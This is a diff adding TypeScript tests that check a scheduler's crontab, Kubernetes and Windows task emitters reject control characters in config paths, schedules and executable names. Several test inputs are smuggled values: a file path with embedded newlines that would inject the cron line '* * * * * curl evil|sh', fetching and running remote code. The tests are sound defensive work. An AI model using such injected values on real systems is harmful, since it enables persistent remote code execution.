@@ -63,3 +63,58 @@ describe('schedule emitters', () => {
     expect(cronJobManifest(base, { image: 'img', configName: 'o.json' })).toMatchObject({ kind: 'CronJob', spec: { schedule: '0 6 * * *', concurrencyPolicy: 'Forbid' } });
   });
 });
+
+// Security review, issue 15: a config path with a line break added lines to `--emit crontab`.
+describe('values with control characters in an emitted schedule', () => {
+  const base: Job = { name: 'a', adapter: 'scubagear', input: '/i', schedule: '0 6 * * *', outputs: { bundle: '/o', store: false, sinks: [] } };
+  const PATH_FIX = 'move or rename the config to a path without control characters and pass it with --config';
+
+  it('refuses a config path with a control character when the config is read, naming the file escaped', () => {
+    expect(() => readOrchestratorConfig({ jobs: [job()] }, '/cfg/x\n* * * * * curl evil|sh\n.json', '/cfg', checks)).toThrow(
+      problem(
+        '"/cfg/x\\n* * * * * curl evil|sh\\n.json": the config path holds the control character U+000A, which would break the lines of an emitted schedule; move or rename the config to a path without control characters; see docs/orchestrator.md',
+      ),
+    );
+    expect(() => readOrchestratorConfig({ jobs: [job()] }, '/cfg/o\u007f.json', '/cfg', checks)).toThrow(/^"\/cfg\/o\\u007f\.json": the config path holds the control character U\+007F/);
+  });
+
+  it('refuses a schedule with a control character when the config is read', () => {
+    expect(read([job({ schedule: '0 6 * * *\r' })])).toThrow(
+      problem('o.json: jobs[0].schedule: "0 6 * * *\\r" holds the control character U+000D, which would break an emitted schedule; separate the cron fields with spaces; see docs/orchestrator.md'),
+    );
+    expect(read([job({ schedule: '0\t6 * * *' })])).toThrow(/^o\.json: jobs\[0\]\.schedule: "0\\t6 \* \* \*" holds the control character U\+0009/);
+  });
+
+  it('crontab: refuses a config path or --svc with a control character, and a backslash before %', () => {
+    expect(() => crontabLines([base], ['svc'], '/c/x\n* * * * * curl evil|sh\n.json')).toThrow(
+      problem(`job a: the config path "/c/x\\n* * * * * curl evil|sh\\n.json" holds the control character U+000A, which would break the emitted schedule; ${PATH_FIX}`),
+    );
+    expect(() => crontabLines([base], ['/opt/svc\r'], '/c/o.json')).toThrow(
+      problem('job a: the svc executable (--svc) "/opt/svc\\r" holds the control character U+000D, which would break the emitted schedule; give --svc a path without control characters or a backslash before %'),
+    );
+    expect(() => crontabLines([base], ['svc'], '/c/50\\%.json')).toThrow(
+      problem(`job a: the config path "/c/50\\\\%.json" has a backslash before %, which cron cannot write (it would take the backslash as escaping the %); ${PATH_FIX}`),
+    );
+    expect(() => crontabLines([{ ...base, name: 'a\nb' }], ['svc'], '/c/o.json')).toThrow(
+      problem('job "a\\nb": name "a\\nb" holds the control character U+000A, which would break the emitted schedule; use 1 to 63 lowercase letters, digits and hyphens'),
+    );
+    expect(crontabLines([base], ['svc'], '/c/50% done.json')).toBe("# svc orchestrator jobs of /c/50% done.json\nCRON_TZ=UTC\n0 6 * * * svc orchestrator dispatch a --config '/c/50\\% done.json'\n");
+  });
+
+  it('k8s: refuses a config name or --image with a control character', () => {
+    expect(() => cronJobManifest(base, { image: 'img', configName: 'o\n.json' })).toThrow(problem(`job a: the config path "o\\n.json" holds the control character U+000A, which would break the emitted schedule; ${PATH_FIX}`));
+    expect(() => cronJobManifest(base, { image: 'img\u0000', configName: 'o.json' })).toThrow(
+      problem('job a: the image (--image) "img\\u0000" holds the control character U+0000, which would break the emitted schedule; give --image a reference without control characters'),
+    );
+    expect(() => cronJobManifest({ ...base, schedule: '0 6 * * *\n' }, { image: 'img', configName: 'o.json' })).toThrow(
+      problem('job a: schedule "0 6 * * *\\n" holds the control character U+000A, which would break the emitted schedule; separate the cron fields with spaces'),
+    );
+  });
+
+  it('windows-task: refuses a config path or --svc with a control character', () => {
+    expect(() => windowsTaskXml(base, ['svc'], 'C:\\c\\o\u0007.json')).toThrow(problem(`job a: the config path "C:\\\\c\\\\o\\u0007.json" holds the control character U+0007, which would break the emitted schedule; ${PATH_FIX}`));
+    expect(() => windowsTaskXml(base, ['C:\\svc\n.exe'], 'C:\\o.json')).toThrow(
+      problem('job a: the svc executable (--svc) "C:\\\\svc\\n.exe" holds the control character U+000A, which would break the emitted schedule; give --svc a path without control characters'),
+    );
+  });
+});
